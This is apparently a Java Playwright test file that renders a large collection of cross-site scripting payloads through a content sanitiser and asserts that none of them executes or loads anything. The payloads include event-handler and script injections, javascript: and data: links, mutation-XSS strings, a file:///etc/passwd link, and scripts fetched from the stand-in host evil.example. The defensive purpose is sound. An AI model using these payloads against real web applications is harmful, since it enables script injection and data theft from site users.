package org.camtay.content;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Page;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.camtay.journeys.Chromium;
import org.junit.jupiter.api.Test;

/**
 * What hostile authors write, in a real browser without any policy that would hide a slip: nothing runs, nothing is loaded, and
 * no link leads anywhere but to pages and web addresses.
 */
class SafeContentJourney {

    private static final List<String> TAGS = List.of(
            "a",
            "audio",
            "b",
            "body",
            "button",
            "details",
            "div",
            "embed",
            "form",
            "frameset",
            "iframe",
            "iframe src=x",
            "img src=x",
            "input autofocus",
            "isindex",
            "keygen",
            "link rel=stylesheet href=//evil.example/x",
            "marquee",
            "math",
            "meta",
            "object data=x",
            "option",
            "picture",
            "select autofocus",
            "style",
            "svg",
            "table background=x",
            "template",
            "textarea autofocus",
            "video src=x",
            "x",
            "x-y tabindex=1");
    private static final List<String> EVENTS = List.of(
            "onload",
            "onerror",
            "onclick",
            "onfocus",
            "onblur",
            "onmouseover",
            "onpointerenter",
            "onanimationstart",
            "ontoggle",
            "onbegin",
            "onstart",
            "onpageshow",
            "onscroll",
            "onwheel",
            "onsubmit",
            "ONERROR",
            "on\u0000error");

    /** Each breaks out of something else. */
    private static final List<String> OTHERS = List.of(
            "<script>alert(1)</script>",
            "<ScRiPt>alert(1)</sCrIpT>",
            "<script/x>alert(1)</script>",
            "<<script>alert(1)//<</script>",
            "<script src=//evil.example/x.js></script>",
            "<script type=module>import('//evil.example/x.js')</script>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
            "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'></svg>#x\"/></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
            "<title><img src=x onerror=alert(1)></title>",
            "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
            "<style>@import '//evil.example/x.css';</style>",
            "<link rel=import href=//evil.example/x>",
            "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
            "<base href=//evil.example/>",
            "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
            "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
            "<template><script>alert(1)</script></template>",
            "<p style=\"background:url(//evil.example/x)\">x</p>",
            "<img src=\"x` `<script>alert(1)</script>\"` `>",
            "<img \"\"\"><script>alert(1)</script>\">",
            "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
            "<a href=\"\u0001javascript:alert(1)\">x</a>",
            "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
            "<!-- --!><img src=x onerror=alert(1)> -->",
            "<![CDATA[<img src=x onerror=alert(1)>]]>",
            "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
            "<!DOCTYPE x [<!ENTITY y \"<img src=x onerror=alert(1)>\">]>&y;",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](javascript&colon;alert(1))",
            "[x](javascript&#58;alert(1))",
            "[x](java\\\nscript:alert(1))",
            "[x](%6Aavascript:alert(1))",
            "[x](\u0001javascript:alert(1))",
            "[x](data:text/html,<script>alert(1)</script>)",
            "[x](vbscript:msgbox(1))",
            "[x](file:///etc/passwd)",
            "[x](blob:https://evil.example/1)",
            "[x](//evil.example)",
            "[x](\\\\evil.example)",
            "[x](https://e.example/\"onmouseover=\"alert(1))",
            "[x](https://e.example 'a\" onmouseover=\"alert(1)')",
            "![x](https://evil.example/a.png)",
            "![x](//evil.example/a.png)",
            "![x](data:image/svg+xml,<svg onload=alert(1)>)",
            "![\" onerror=\"alert(1)](../media/room.png)",
            "![x](../media/room.png \"a\\\" onerror=\\\"alert(1)\")",
            "<javascript:alert(1)>",
            "<https://e.example/\"onmouseover=alert(1)>",
            "[x]: javascript:alert(1)\n\n[x]",
            "[^x]\n\n[^x]: <img src=x onerror=alert(1)> [y](javascript:alert(1))",
            "```html\n<script>alert(1)</script>\n```",
            "```\"><script>alert(1)</script>\n```",
            "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |",
            "> [!TIP] <img src=x onerror=alert(1)>\n> [x](javascript:alert(1))",
            "&lt;img src=x onerror=alert(1)&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "\\<script>alert(1)\\</script>",
            "`<img src=x onerror=alert(1)>`",
            "[r](rule:R\"><img src=x onerror=alert(1)>)",
            "[f](field:\"><img src=x onerror=alert(1)>)",
            "[t](template:../../x\"onclick=\"alert(1))");

    /** Calls whatever waits to be called, and tells what was. */
    private static final String PROVOKE = """
            () => {
              for (const element of document.querySelectorAll('body *')) {
                for (const name of ['mouseover', 'pointerenter', 'focus', 'blur', 'wheel', 'toggle', 'animationstart']) {
                  element.dispatchEvent(new Event(name, {bubbles: true}));
                }
              }
              const links = Array.from(document.querySelectorAll('a[href], area[href]'))
                  .map(link => link.getAttribute('href'))
                  .filter(href => !/^(https?:\\/\\/|#|modules\\/|templates\\/)/.test(href));
              const foreign = Array.from(document.querySelectorAll('body *'))
                  .filter(element => /^(script|style|iframe|object|embed|form|input|button|svg|math|link|meta|base|template|video|audio)$/i
                      .test(element.localName) || Array.from(element.attributes).some(one => /^on|^style$/i.test(one.name)))
                  .map(element => element.outerHTML.slice(0, 200));
              return [...window.ran, ...links, ...foreign];
            }""";

    private static Stream<String> attacks() {
        Stream<String> generated =
                TAGS.stream().flatMap(tag -> EVENTS.stream().map(event -> "<" + tag + " " + event + "=alert(1)>x"));
        return Stream.concat(OTHERS.stream(), generated);
    }

    @Test
    void nothing_of_all_this_runs_in_a_browser() {
        List<String> loaded = new ArrayList<>();
        try (BrowserContext browser = Chromium.browser().newContext()) {
            browser.addInitScript("window.ran = []; window.alert = what => window.ran.push('alert ' + what);");
            Page page = browser.newPage();
            page.navigate("about:blank");
            page.onRequest(request -> loaded.add(request.url()));
            attacks().forEach(attack -> {
                String html = SafeContentTest.rendered(SafeContentTest.everywhere(attack));
                assertThat(asWholePage(page, html)).as(attack).isEmpty();
                assertThat(asPartOfAPage(page, html)).as(attack).isEmpty();
            });
        }
        assertThat(loaded).allMatch(address -> address.contains("/media/"));
    }

    @Test
    void the_alarm_of_this_journey_works() {
        try (BrowserContext browser = Chromium.browser().newContext()) {
            browser.addInitScript("window.ran = []; window.alert = what => window.ran.push('alert ' + what);");
            Page page = browser.newPage();
            page.navigate("about:blank");
            assertThat(asWholePage(page, "<script>alert(1)</script>")).contains("alert 1");
            assertThat(asPartOfAPage(page, "<b onmouseover=alert(2)>x</b>")).contains("alert 2");
            assertThat(asPartOfAPage(page, "<a href=\"javascript:alert(1)\">x</a>"))
                    .hasSize(1);
        }
    }

    /** The way of a plain page, a print and a preview. */
    private static List<String> asWholePage(Page page, String html) {
        page.evaluate(
                "html => { window.ran.length = 0; document.open(); document.write(html); document.close(); }", html);
        return provoked(page);
    }

    /** The way of the application. */
    private static List<String> asPartOfAPage(Page page, String html) {
        page.evaluate("html => { window.ran.length = 0; document.body.innerHTML = html; }", html);
        return provoked(page);
    }

    private static List<String> provoked(Page page) {
        return ((List<?>) page.evaluate(PROVOKE)).stream().map(String::valueOf).toList();
    }
}
